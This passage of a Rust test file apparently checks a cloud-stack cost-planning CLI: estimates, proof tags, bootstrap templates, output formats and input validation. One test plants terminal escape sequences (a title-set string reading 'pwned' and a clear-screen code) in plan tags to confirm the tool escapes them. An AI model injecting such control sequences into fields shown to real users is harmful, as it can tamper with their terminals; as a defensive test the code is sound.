    heavy["workload"]["avg_response_kb"] = 64.into();
    heavy["workload"]["internet_egress_percent"] = 100.into();
    let out = text(&stackplan(&["estimate", "--plan", "-"], &heavy.to_string()).stdout);
    let total = out
        .lines()
        .find(|l| l.starts_with("Monthly total:"))
        .unwrap();
    assert!(
        !total.contains("lower bound") && total.contains("+ – $") && total.ends_with('+'),
        "{total}"
    );
    // A plan with every price known has no mark.
    let lambda = text(&stackplan(&["example", "lambda"], "").stdout);
    let out = text(&stackplan(&["estimate", "--plan", "-"], &lambda).stdout);
    assert!(!out.contains("+)") && !out.contains("lower bound"), "{out}");
    assert!(
        !out.contains("Autoscaling maximum"),
        "Lambda has no task bound: {out}"
    );
    let json: serde_json::Value =
        serde_json::from_slice(&stackplan(&["estimate", "--plan", "-", "--json"], &lambda).stdout)
            .unwrap();
    assert!(json["autoscaling_ceiling"].is_null(), "{json}");
}

/// A refusal that cannot be written (standard error on a full device) still exits with the
/// refusal's code, not with a panic's 101.
#[cfg(target_os = "linux")]
#[test]
fn a_refusal_on_a_full_stderr_keeps_its_exit_code() {
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .expect("/dev/full");
    let out = Command::new(env!("CARGO_BIN_EXE_stackplan"))
        .args(["validate", "--plan", "-"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(full)
        .status()
        .expect("stackplan runs");
    assert_eq!(out.code(), Some(2), "{out:?}");
}

/// `prove-stack` prints the proof tag of the stack an ARN names under the given key, and
/// refuses what is not a stack ARN, an owner a tokens file could not hold, or no key at all
/// (it never makes one).
#[test]
fn prove_stack_prints_the_tag_under_the_servers_key() {
    let arn = "arn:aws:cloudformation:eu-west-1:123456789012:stack/shop-fargate/0f1e2d3c-aaaa-bbbb-cccc-1234567890ab";
    let key = "5a".repeat(32);
    let created = "2026-11-30T10:00:00.123000+00:00";
    let out = stackplan(
        &[
            "prove-stack",
            "--stack-arn",
            arn,
            "--created",
            created,
            "--stack-role-arn",
            "arn:aws:iam::123456789012:role/stackplan-execution",
            "--id-key",
            &key,
        ],
        "",
    );
    assert!(out.status.success(), "{out:?}");
    let text = String::from_utf8(out.stdout).unwrap();
    let tag = text.lines().next().unwrap();
    let proof = tag.strip_prefix("stackplan:proof=").expect("the tag first");
    let id_key = server::deploy::id::IdKey::from_hex(&key).unwrap();
    let of = server::deploy::id::ProofOf {
        account: "123456789012",
        region: "eu-west-1",
        name: "shop-fargate",
        owner: None,
        role: Some("arn:aws:iam::123456789012:role/stackplan-execution"),
    };
    assert!(id_key.proves(proof, &of, 1_796_032_800));
    // Of that role: the stack's RoleARN is part of what it proves.
    assert!(!id_key.proves(
        proof,
        &server::deploy::id::ProofOf { role: None, ..of },
        1_796_032_800
    ));
    assert!(
        text.contains("Make sure first that this server made it"),
        "{text}"
    );
    assert!(
        text.contains("acting as the role arn:aws:iam::123456789012:role/stackplan-execution."),
        "{text}"
    );
    // The role must be given, or said to be none: a proof of no role proves nothing for a
    // stack that has one.
    let out = stackplan(
        &[
            "prove-stack",
            "--stack-arn",
            arn,
            "--created",
            created,
            "--id-key",
            &key,
        ],
        "",
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8(out.stderr)
            .unwrap()
            .contains("--stack-role-arn"),
        "the flag it needs is named"
    );
    assert!(text.contains("--use-previous-template"), "{text}");
    let empty = tempfile::tempdir().unwrap();
    let dir = empty.path().to_str().unwrap();
    for (args, says) in [
        (
            vec!["--stack-arn", "shop-fargate", "--id-key", &key],
            "--stack-arn",
        ),
        (vec!["--stack-arn", arn, "--id-key", "abc"], "--id-key"),
        (
            vec!["--stack-arn", arn, "--id-key", &key, "--owner", "team a"],
            "--owner",
        ),
        (vec!["--stack-arn", arn, "--data-dir", dir], "no id key"),
        (
            vec![
                "--stack-arn",
                arn,
                "--id-key",
                &key,
                "--stack-role-arn",
                "stackplan-execution",
            ],
            "--stack-role-arn",
        ),
        (
            vec![
                "--stack-arn",
                arn,
                "--id-key",
                &key,
                "--created",
                "yesterday",
            ],
            "--created",
        ),
    ] {
        let mut args = args;
        if !args.contains(&"--created") {
            args.extend(["--created", created]);
        }
        if !args.contains(&"--stack-role-arn") {
            args.push("--no-stack-role");
        }
        let out = stackplan(&[&["prove-stack"][..], &args].concat(), "");
        let err = String::from_utf8(out.stderr).unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.contains(says), "{args:?}: {err}");
        assert!(out.stdout.is_empty(), "{args:?}");
    }
    // It made no key where it found none.
    assert!(!empty.path().join("id-key").exists());
}

/// `bootstrap --out` replaces an earlier bootstrap template (an update of the roles writes the
/// same file again) but leaves any other file as it is unless `--force` is given.
#[test]
fn bootstrap_replaces_only_an_earlier_bootstrap_template() {
    let dir = tempfile::tempdir().unwrap();
    let plan = dir.path().join("plan.json");
    let plan_text = examples::lambda().to_json_pretty();
    std::fs::write(&plan, &plan_text).unwrap();
    let plan_arg = plan.display().to_string();
    let refused = stackplan(&["bootstrap", "--out", &plan_arg], "");
    assert_eq!(refused.status.code(), Some(2), "{}", text(&refused.stderr));
    assert!(
        text(&refused.stderr).contains("is not a Stackplan bootstrap template"),
        "{}",
        text(&refused.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(&plan).unwrap(),
        plan_text,
        "left as it was"
    );
    // Neither is a directory written over.
    let folder = dir.path().display().to_string();
    assert_eq!(
        stackplan(&["bootstrap", "--out", &folder], "")
            .status
            .code(),
        Some(2)
    );
    // With --force it is replaced; and the template it now holds is replaced without.
    for args in [&["--force"][..], &[]] {
        let ok = stackplan(&[&["bootstrap", "--out", &plan_arg][..], args].concat(), "");
        assert_eq!(ok.status.code(), Some(0), "{args:?}: {}", text(&ok.stderr));
        let written: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&plan).unwrap()).unwrap();
        assert!(written["Resources"]["DeployerRole"].is_object(), "{args:?}");
    }
}

/// Totals of a thousand dollars and more are grouped by thousands in the tables, as the planner
/// shows them: `$2,345.67`, not `$2345.67`.
#[test]
fn large_amounts_are_grouped_by_thousands() {
    let mut plan: serde_json::Value =
        serde_json::from_str(&examples::fargate().to_json_pretty()).unwrap();
    plan["fargate"]["vcpu"] = serde_json::json!(4);
    plan["fargate"]["memory_mib"] = serde_json::json!(16384);
    plan["fargate"]["desired_tasks"] = serde_json::json!(10);
    plan["fargate"]["min_tasks"] = serde_json::json!(10);
    plan["fargate"]["max_tasks"] = serde_json::json!(20);
    let out = stackplan(&["estimate", "--plan", "-"], &plan.to_string());
    assert!(out.status.success(), "{}", text(&out.stderr));
    let printed = text(&out.stdout);
    let total = printed
        .lines()
        .find_map(|l| l.strip_prefix("Monthly total: $"))
        .unwrap_or_else(|| panic!("{printed}"));
    // A lower bound ends with "+", as its subtotals do.
    let amount = total
        .split_whitespace()
        .next()
        .unwrap()
        .trim_end_matches('+');
    let (whole, cents) = amount.split_once('.').unwrap();
    assert!(whole.contains(','), "{amount}");
    assert!(
        whole
            .split(',')
            .skip(1)
            .all(|g| g.len() == 3 && g.bytes().all(|b| b.is_ascii_digit()))
            && cents.len() == 2,
        "{amount}"
    );
    // The JSON keeps plain numbers.
    let json = stackplan(&["estimate", "--plan", "-", "--json"], &plan.to_string());
    let value: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert!(value["monthly_usd"].as_f64().unwrap() >= 1000.0);
}

/// `estimate` and `compare` take `--format table|json` as `template` and `topology` do; `--json`
/// stays, the same as `--format json`, and both at once are refused.
#[test]
fn estimate_and_compare_take_format_as_the_other_commands_do() {
    let plan = examples::lambda().to_json_pretty();
    for command in ["estimate", "compare"] {
        let flag = stackplan(&[command, "--plan", "-", "--json"], &plan);
        let format = stackplan(&[command, "--plan", "-", "--format", "json"], &plan);
        assert!(
            flag.status.success() && format.status.success(),
            "{command}"
        );
        assert_eq!(text(&flag.stdout), text(&format.stdout), "{command}");
        serde_json::from_slice::<serde_json::Value>(&format.stdout).expect("JSON");
        let table = stackplan(&[command, "--plan", "-", "--format", "table"], &plan);
        assert_eq!(
            text(&table.stdout),
            text(&stackplan(&[command, "--plan", "-"], &plan).stdout),
            "{command}"
        );
        let both = stackplan(
            &[command, "--plan", "-", "--json", "--format", "table"],
            &plan,
        );
        assert_eq!(both.status.code(), Some(2), "{command}");
    }
}

/// A derived unit price is marked in the table as the planner's badge marks it, once per
/// derived line, with what the mark means.
#[test]
fn derived_prices_are_marked_in_the_table() {
    let mut plan: serde_json::Value =
        serde_json::from_slice(&stackplan(&["example", "fargate"], "").stdout).unwrap();
    plan["region"] = "us-west-2".into();
    let json = stackplan(&["estimate", "--plan", "-", "--json"], &plan.to_string());
    let value: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    let derived = value["lines"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|l| l["derived"] == true && l["unit_usd"].is_number())
        .count();
    assert!(derived >= 2, "{value}");
    let table = text(&stackplan(&["estimate", "--plan", "-"], &plan.to_string()).stdout);
    let marked = table
        .lines()
        .filter(|l| {
            l.starts_with("  ")
                && l.split_whitespace()
                    .any(|w| w.starts_with('$') && w.ends_with('*'))
        })
        .count();
    assert_eq!(marked, derived, "{table}");
    assert!(table.contains("\n* derived price: "), "{table}");
}

/// A tag key given twice in a plan file is refused with its path, not read as its last value
/// (which would tag the stack with one of them and say nothing of the other).
#[test]
fn a_tag_given_twice_is_refused() {
    let plan = text(&stackplan(&["example", "lambda"], "").stdout);
    let doubled = plan.replacen("\"tags\": {", "\"tags\": {\n    \"env\": \"staging\",", 1);
    assert_ne!(doubled, plan, "the example has tags");
    let out = stackplan(&["validate", "--plan", "-"], &doubled);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).starts_with("tags: the key `env` is given twice"),
        "{}",
        text(&out.stderr)
    );
}

/// A plan's keys and values are the user's, or a link's sender's: a control character in them
/// is printed as its escape, never sent to the terminal as a command.
#[test]
fn control_characters_are_printed_as_escapes() {
    let mut plan = examples::fargate();
    plan.tags
        .insert("k\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}".into(), "v".into());
    let link = shared::link::encode(&plan);
    let mut file = plan.clone();
    file.project = "shop\u{1b}[2J".into();
    let json = serde_json::to_string(&file).unwrap();
    // The link reads (its plan's problems are said on stderr); the file is refused.
    for (args, input, code) in [
        (vec!["link", "--decode", link.as_str()], "", 0),
        (vec!["validate", "--plan", "-"], json.as_str(), 2),
    ] {
        let out = stackplan(&args, input);
        assert_eq!(out.status.code(), Some(code), "{args:?}");
        let said = text(&out.stderr);
        for c in ['\u{1b}', '\u{7}', '\u{9b}'] {
            assert!(!said.contains(c), "{args:?}: {said:?}");
        }
        assert!(said.contains(r"\u{1b}[2J"), "{args:?}: {said}");
    }
    // An answer written to a pipe (not a terminal) is the answer as it is: JSON that reads back
    // to the plan, whose DEL and C1 controls JSON leaves unescaped.
    plan.tags.insert("del\u{7f}c1\u{85}".into(), "v".into());
    let out = stackplan(&["link", "--decode", &shared::link::encode(&plan)], "");
    let read: shared::Plan = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(read, plan);
}
